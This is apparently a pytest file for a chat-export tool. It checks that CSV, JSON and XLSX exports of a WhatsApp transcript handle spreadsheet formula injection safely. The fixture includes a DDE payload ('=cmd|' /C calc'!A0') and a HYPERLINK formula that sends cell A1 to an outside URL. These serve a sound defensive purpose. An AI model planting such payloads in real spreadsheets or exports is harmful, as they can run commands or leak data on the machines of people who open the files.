"""`chat-review messages` as Excel-safe CSV and as an XLSX workbook, through the console script."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import subprocess
from pathlib import Path

import openpyxl
import pytest
from conftest import console_script

EXPORT = (
    "13/09/2026, 19:05 - Messages and calls are end-to-end encrypted. No one outside of this "
    "chat, not even WhatsApp, can read or listen to them.\n"
    "13/09/2026, 19:06 - Zoë Ångström: =HYPERLINK(\"http://x/?\"&A1,\"click\")\n"
    "13/09/2026, 19:07 - =cmd|' /C calc'!A0: hello\n"
    "13/09/2026, 19:08 - Tom Aldridge: -1 from me, @Zoë agreed\n"
    "13/09/2026, 19:09 - Tom Aldridge: line one\n"
    "line two\n"
)


@pytest.fixture
def tricky(tmp_path: Path) -> Path:
    path = tmp_path / "tricky.txt"
    path.write_text(EXPORT, encoding="utf-8")
    return path


def test_csv_file_is_utf8_with_bom_and_crlf_for_excel(run, grant, tricky, tmp_path):
    out = tmp_path / "t.csv"
    assert run("messages", str(tricky), "--token", grant(tricky), "--output", str(out)).code == 0
    data = out.read_bytes()
    assert data.startswith(b"\xef\xbb\xbftimestamp,")
    assert "Zoë Ångström".encode() in data
    assert data.endswith(b"\r\n") and b",Tom Aldridge,text,\"line one\nline two\"," in data


def test_csv_never_hands_excel_a_formula(run, grant, tricky):
    result = run("messages", str(tricky), "--token", grant(tricky))
    assert result.code == 0, result.err
    rows = list(csv.DictReader(io.StringIO(result.out.removeprefix("\ufeff"))))
    assert rows[1]["text"] == "'=HYPERLINK(\"http://x/?\"&A1,\"click\")"
    assert rows[2]["sender"] == "'=cmd|' /C calc'!A0"
    assert rows[3]["text"] == "'-1 from me, @Zoë agreed"


def test_json_keeps_the_texts_as_exported(run, grant, tricky):
    result = run("messages", str(tricky), "--token", grant(tricky), "--format", "json")
    messages = json.loads(result.out)["messages"]
    assert messages[1]["text"] == "=HYPERLINK(\"http://x/?\"&A1,\"click\")"
    assert messages[2]["sender"] == "=cmd|' /C calc'!A0"


def test_xlsx_file_is_written_audited_and_holds_text_not_formulas(run, grant, tricky, tmp_path):
    out = tmp_path / "t.xlsx"
    result = run("messages", str(tricky), "--token", grant(tricky), "--format", "xlsx",
                 "--output", str(out))
    assert result.code == 0, result.err
    written = json.loads(run("audit", "list", "--json").out.splitlines()[-1])
    assert written["detail"]["kind"] == "xlsx"
    assert written["detail"]["sha256"] == hashlib.sha256(out.read_bytes()).hexdigest()
    sheet = openpyxl.load_workbook(out)["Messages"]
    formula = sheet.cell(row=3, column=4)
    assert formula.value == "=HYPERLINK(\"http://x/?\"&A1,\"click\")"
    assert formula.data_type == "s"
    assert sheet.cell(row=4, column=2).value == "=cmd|' /C calc'!A0"
    assert sheet.cell(row=4, column=2).data_type == "s"
    assert sheet.cell(row=6, column=4).value == "line one\nline two"
    assert not list(tmp_path.glob(".t.xlsx.*"))  # no temporary file left behind


def test_xlsx_can_be_redirected_to_a_file(grant, tricky, home, tmp_path):
    token = grant(tricky)
    target = tmp_path / "piped.xlsx"
    with target.open("wb") as handle:
        proc = subprocess.run([console_script(), "--home", str(home), "messages", str(tricky),
                               "--token", token, "--format", "xlsx"], stdout=handle,
                              stderr=subprocess.PIPE, timeout=120)
    assert proc.returncode == 0, proc.stderr
    assert openpyxl.load_workbook(target)["Messages"].cell(row=4, column=3).value == "text"


def test_a_message_longer_than_an_excel_cell_is_cut_with_a_warning(run, grant, tmp_path):
    export = tmp_path / "long.txt"
    export.write_text(EXPORT + "13/09/2026, 19:10 - Tom Aldridge: " + "word " * 8000 + "\n",
                      encoding="utf-8")
    out = tmp_path / "long.xlsx"
    result = run("messages", str(export), "--token", grant(export), "--format", "xlsx",
                 "--output", str(out))
    assert result.code == 0, result.err
    assert "1 message(s) are longer than the 32,767 characters" in result.err
    assert len(openpyxl.load_workbook(out)["Messages"].cell(row=7, column=4).value) == 32_767
